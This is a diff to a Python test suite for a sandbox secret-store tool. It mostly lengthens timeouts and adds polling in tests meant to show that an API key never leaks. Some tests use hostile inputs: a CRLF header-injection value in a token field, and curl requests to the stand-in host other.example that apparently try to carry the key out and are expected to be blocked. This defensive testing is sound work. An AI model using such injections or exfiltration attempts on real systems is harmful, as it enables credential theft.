@@ -72,7 +72,7 @@ class Store(unittest.TestCase):
                     ["-g", "openai", "--from-file", h.dir / "fifo"], ["-g", "openai", "--from-file", "/dev/zero"],
                     ["-g", "openai", "-t", "has a space in it"], ["-g", "openai", "-t", "short"], ["-g", "openai", "-t", "a\r\nX-Evil: 1234567"],
                     ["-g", "openai", "--form", "no-such-form", "-t", KEY]):
-            r = h.run("secret", "set", *bad, input=b"", timeout=20)
+            r = h.run("secret", "set", *bad, input=b"", timeout=60)
             self.assertNotEqual(r.returncode, 0, bad)
             self.assertEqual(len(r.stderr.decode().strip().split("\n")) , 2 if b"history" in r.stderr else 1, (bad, r.stderr))
         self.assertEqual((h.dir / "data/sbx/secrets/store.json").read_bytes(), before)
@@ -128,7 +128,7 @@ class Store(unittest.TestCase):
         finally:
             with open(h.dir / "asked", "w") as f:
                 f.write("wrong horse battery\n")
-            p.wait(10)
+            p.wait(60)
 
     @unittest.skipUnless(shutil.which("gnome-keyring-daemon") and shutil.which("dbus-run-session"), "gnome-keyring is not installed")
     def test_keyring_of_the_user(self):
@@ -169,7 +169,7 @@ print(sbx("secret", "ls", status=1))
 """
         (h.dir / "home/.local/share").mkdir(parents=True)
         env = {k: v for k, v in h.env.items() if k != "DBUS_SESSION_BUS_ADDRESS"}
-        r = subprocess.run(["dbus-run-session", "--", str(script), inside], env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
+        r = subprocess.run(["dbus-run-session", "--", str(script), inside], env=env, capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)
         self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
         self.assertIn("openai", r.stdout)
         self.assertIn("does not have the key", r.stdout)
@@ -244,7 +244,7 @@ print(sbx("secret", "ls", status=1))
         for p in writers:
             p.stdin.write(b"a-value:0123456789")
             p.stdin.close()
-        self.assertEqual({p.wait(60) for p in writers}, {0})
+        self.assertEqual({p.wait(180) for p in writers}, {0})
         self.assertEqual(sorted(r["service"] for r in json.loads(h.sbx("secret", "ls", "--json"))), sorted(names))
         self.assertEqual(sorted(os.listdir(h.dir / "data/sbx/secrets")), ["key", "store.json", "store.json.lock"])
 
@@ -428,7 +428,7 @@ class Guest(unittest.TestCase):
         cls.h.close()
 
     def sh(self, script, status=0):
-        r = self.h.sh("s", script, timeout=60)
+        r = self.h.sh("s", script)
         self.assertEqual(r.returncode, status, r.stdout[-2000:] + r.stderr[-2000:])
         return r.stdout.decode(errors="replace")
 
@@ -437,6 +437,7 @@ class Guest(unittest.TestCase):
             self.assertNotIn(f, text)
 
     def test_key_is_written_and_never_comes_back(self):
+        began = time.time()
         self.one.seen.clear()
         sentinel = self.sh("printf %s $OPENAI_API_KEY")
         self.assertEqual(len(sentinel), len(KEY))
@@ -450,7 +451,7 @@ class Guest(unittest.TestCase):
             self.assertIn(f, out)
         self.assertIn("the end", out)
         row = [r for r in json.loads(self.h.sbx("secret", "ls", "--json")) if r["service"] == "openai"][0]
-        self.assertLess(abs(row["last_use"] - time.time()), 60)
+        self.assertTrue(began - 5 < row["last_use"] < time.time() + 5, (began, row))
 
     def test_threat_65_every_split_chunked_events_and_compressed(self):
         for path in ("/split", "/events"):
@@ -472,7 +473,7 @@ class Guest(unittest.TestCase):
         self.assertIn("the end", out)
 
     def test_threat_38_websocket(self):
-        out = self.sh("curl -sSi --http1.1 -N --max-time 5 https://api.openai.com/ws -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
+        out = self.sh("curl -sSi --http1.1 -N --max-time 60 https://api.openai.com/ws -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
                       "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H 'Sec-WebSocket-Extensions: permessage-deflate' || true")
         self.assertIn("101", out.split("\n")[0])
         self.assertNotIn("sec-websocket-extensions", self.one.seen[-1][2])
@@ -497,9 +498,9 @@ class Guest(unittest.TestCase):
             out = self.sh(f"curl -sSi https://other.example/{i} {how}")
             self.assertIn("403", out.split("\n")[0], how)
         self.assertEqual(len(self.one.seen), n)
-        rows = json.loads(self.h.sbx("policy", "log", "s", "--raw", "--json", "--host", "other.example"))
-        alerts = [r for r in rows if r["kind"] == "alert"]
-        self.assertGreaterEqual(len(alerts), 3, rows)
+        rows = lambda: json.loads(self.h.sbx("policy", "log", "s", "--raw", "--json", "--host", "other.example"))
+        self.assertTrue(wait_for(lambda: len([r for r in rows() if r["kind"] == "alert"]) >= 3), rows())
+        alerts = [r for r in rows() if r["kind"] == "alert"]
         self.assertIn("openai", alerts[0]["reason"])
         self.sh("curl -sSf https://other.example/plain -o /dev/null")
 
@@ -556,8 +557,8 @@ class Guest(unittest.TestCase):
         fd = wait_for(reader, 3)
         self.assertTrue(fd)
         # While it is waited for, the store is open to others.
-        h.sbx("secret", "set", "-g", "xai", "-t", "xai-0123456789abcdef", timeout=10)
-        h.sbx("secret", "rm", "-g", "xai", timeout=10)
+        h.sbx("secret", "set", "-g", "xai", "-t", "xai-0123456789abcdef", timeout=60)
+        h.sbx("secret", "rm", "-g", "xai", timeout=60)
         os.write(fd, b"printed-second-9876543210")
         os.close(fd)
         self.assertTrue(wait_for(lambda: sent() == "Bearer printed-second-9876543210", 5))
